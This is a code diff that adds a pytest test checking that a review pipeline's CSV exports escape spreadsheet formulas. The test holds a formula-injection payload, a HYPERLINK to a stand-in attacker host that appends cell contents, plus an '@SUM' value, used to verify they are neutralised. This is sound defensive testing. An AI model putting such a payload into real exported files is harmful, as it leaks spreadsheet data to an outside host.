@@ -54,3 +54,22 @@ def test_the_tables(review):
     assert len(line) == 11
     final.write(items, read_codebook(review.codebook), review.outputs / "final")
     assert "i.p." in (review.outputs / "final" / "conflicts.csv").read_text(encoding="utf-8")
+
+
+def test_no_table_holds_a_formula(review):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    for label in ("form.dose", "form.route"):
+        say(review, "mk", label, hostile)
+    say(review, "th", "form.route", "@SUM(A1)")
+    out = review.outputs / "final"
+    final.write(resolved(review), read_codebook(review.codebook), out)
+    cells = [
+        cell
+        for path in out.glob("*.csv")
+        for line in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
+        for cell in line
+    ]
+    assert "'" + hostile in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "@"))]
+    assert (out / "resolved.csv").read_bytes().startswith("\ufeff".encode())
+    assert not (out / "syrcle.csv").read_bytes().startswith("\ufeff".encode())
